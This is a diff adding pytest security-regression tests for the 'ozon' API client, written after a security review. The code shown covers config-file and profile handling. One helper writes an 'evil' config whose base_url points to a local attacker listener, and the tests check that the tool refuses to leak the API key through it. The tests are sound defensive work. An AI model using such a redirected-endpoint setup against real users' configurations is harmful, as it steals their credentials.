@@ -1,0 +1,189 @@
+"""The findings of the security review (issue #25), each reproduced as the reviewer did it and
+now refused, with the checks the review found passing kept here too.
+
+1. a config file others can write sends the environment's key to another host;
+2. MCP over HTTP on a non-loopback host serves foreign Origin/Host headers;
+3. hostile input (deep JSON, non-UTF-8 arguments) ends in a traceback;
+4. terminal escapes in Ozon's text reach the terminal;
+5. the sandbox admin can be driven by a web page;
+6. signed URLs (their query strings) in download errors;
+7. downloads follow redirects anywhere and decompress without a cap.
+"""
+
+from __future__ import annotations
+
+import os
+import socket
+import stat
+import subprocess
+import sys
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+OZON = Path(sys.executable).with_name("ozon")
+KEY = "sk-SECURITY-REVIEW-0f1e2d3c4b5a"
+
+
+def _env(tmp_path: Path, **extra: str) -> dict[str, str]:
+    env = {k: v for k, v in os.environ.items() if not k.startswith("OZON_")}
+    env["OZON_ASYNC_CONFIG"] = str(tmp_path / "absent.toml")
+    env["PYTHONUNBUFFERED"] = "1"
+    env.update(extra)
+    return env
+
+
+def _ozon(
+    *args: str, env: dict[str, str], input: bytes | None = None
+) -> subprocess.CompletedProcess[bytes]:
+    proc = subprocess.run(
+        [str(OZON), *args],
+        env=env,
+        input=input,
+        stdin=None if input is not None else subprocess.DEVNULL,
+        capture_output=True,
+        timeout=60,
+    )
+    assert KEY.encode() not in proc.stdout + proc.stderr
+    return proc
+
+
+class Listener:
+    """A TCP listener on a free loopback port that records what arrives (the attacker's)."""
+
+    def __init__(self) -> None:
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(8)
+        self.sock.settimeout(0.2)
+        self.port = self.sock.getsockname()[1]
+        self.received = b""
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._run, daemon=True)
+        self._thread.start()
+
+    def _run(self) -> None:
+        while not self._stop.is_set():
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                continue
+            with conn:
+                conn.settimeout(1)
+                try:
+                    self.received += conn.recv(65536)
+                    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}")
+                except OSError:
+                    pass
+
+    def close(self) -> None:
+        self._stop.set()
+        self._thread.join(5)
+        self.sock.close()
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    lst = Listener()
+    try:
+        yield lst
+    finally:
+        lst.close()
+
+
+# ------------------------------------------------------------------ 1. config and profiles
+def _evil_config(tmp_path: Path, port: int, *, opt_in: bool) -> Path:
+    folder = tmp_path / "ozon-async"
+    folder.mkdir()
+    config = folder / "config.toml"
+    config.write_text(
+        'default_profile = "evil"\n[profiles.evil]\n'
+        f'base_url = "http://127.0.0.1:{port}"\n'
+        + ("allow_custom_base_url = true\n" if opt_in else "")
+    )
+    return config
+
+
+@pytest.mark.parametrize("how", ["world-writable file and directory", "no opt-in"])
+def test_finding_1_a_config_file_cannot_send_the_environments_key_elsewhere(
+    tmp_path: Path, listener: Listener, how: str
+) -> None:
+    config = _evil_config(tmp_path, listener.port, opt_in=how != "no opt-in")
+    if how != "no opt-in":
+        config.parent.chmod(0o777)  # chmod 777 ~/.config/ozon-async; chmod 666 config.toml
+        config.chmod(0o666)
+    else:
+        config.chmod(0o600)
+    env = _env(tmp_path, OZON_ASYNC_CONFIG=str(config), OZON_CLIENT_ID="555", OZON_API_KEY=KEY)
+    proc = _ozon("call", "warehouse.list_v2", "limit:=1", env=env)
+    err = proc.stderr.decode()
+    assert proc.returncode == 2, err
+    assert len(err.strip().splitlines()) == 1  # one line, no traceback
+    if how == "no opt-in":
+        assert "allow_custom_base_url = true" in err
+    else:
+        assert f"chmod 700 {config.parent}" in err or f"chmod 600 {config}" in err
+    assert listener.received == b""
+
+
+def test_finding_1_the_file_alone_is_fixed_after_the_directory(
+    tmp_path: Path, listener: Listener
+) -> None:
+    config = _evil_config(tmp_path, listener.port, opt_in=True)
+    config.chmod(0o666)
+    env = _env(tmp_path, OZON_ASYNC_CONFIG=str(config), OZON_CLIENT_ID="555", OZON_API_KEY=KEY)
+    proc = _ozon("call", "warehouse.list_v2", "limit:=1", env=env)
+    assert proc.returncode == 2 and f"chmod 600 {config}" in proc.stderr.decode()
+    assert listener.received == b""
+
+
+def test_finding_1_an_opted_in_base_url_is_named_with_verbose(
+    tmp_path: Path, listener: Listener
+) -> None:
+    config = _evil_config(tmp_path, listener.port, opt_in=True)
+    config.chmod(0o600)
+    env = _env(tmp_path, OZON_ASYNC_CONFIG=str(config), OZON_CLIENT_ID="555", OZON_API_KEY=KEY)
+    proc = _ozon("call", "warehouse.list_v2", "limit:=1", "-v", "--max-retries", "0", env=env)
+    err = proc.stderr.decode()
+    assert (
+        f"base URL http://127.0.0.1:{listener.port} (not Ozon's API; base_url from evil)" in err
+    )
+
+
+def test_profiles_add_and_remove_write_a_private_file(tmp_path: Path) -> None:
+    home = tmp_path / "home"
+    env = _env(tmp_path, HOME=str(home))
+    env.pop("OZON_ASYNC_CONFIG")
+    env.pop("XDG_CONFIG_HOME", None)
+    add = _ozon(
+        "profiles", "add", "main", "--client-id", "123456", "--default", env=env, input=KEY.encode()
+    )
+    assert add.returncode == 0, add.stderr
+    config = home / ".config" / "ozon-async" / "config.toml"
+    assert stat.S_IMODE(config.stat().st_mode) == 0o600
+    assert stat.S_IMODE(config.parent.stat().st_mode) == 0o700
+    assert f'api_key = "{KEY}"' in config.read_text()
+    sb = _ozon(
+        "profiles",
+        "add",
+        "sb",
+        "--client-id",
+        "1",
+        "--base-url",
+        "http://127.0.0.1:8080",
+        env=env,
+        input=b"test\n",
+    )
+    assert sb.returncode == 0 and "not Ozon's API" in sb.stderr.decode()
+    listing = _ozon("profiles", env=env).stdout.decode()
+    assert "main\tclient_id=123456\tapi key" in listing and "(default)" in listing
+    assert "sb\tclient_id=1\tapi key\tbase_url=http://127.0.0.1:8080" in listing
+    assert _ozon("profiles", "add", "main", env=env, input=b"x\n").returncode == 2
+    assert _ozon("profiles", "add", "x", env=env).returncode == 2  # no key given
+    removed = _ozon("profiles", "remove", "main", env=env)
+    assert removed.returncode == 0 and "was the default" in removed.stderr.decode()
+    assert KEY not in config.read_text()
+    assert stat.S_IMODE(config.stat().st_mode) == 0o600
+    assert _ozon("profiles", "remove", "main", env=env).returncode == 2
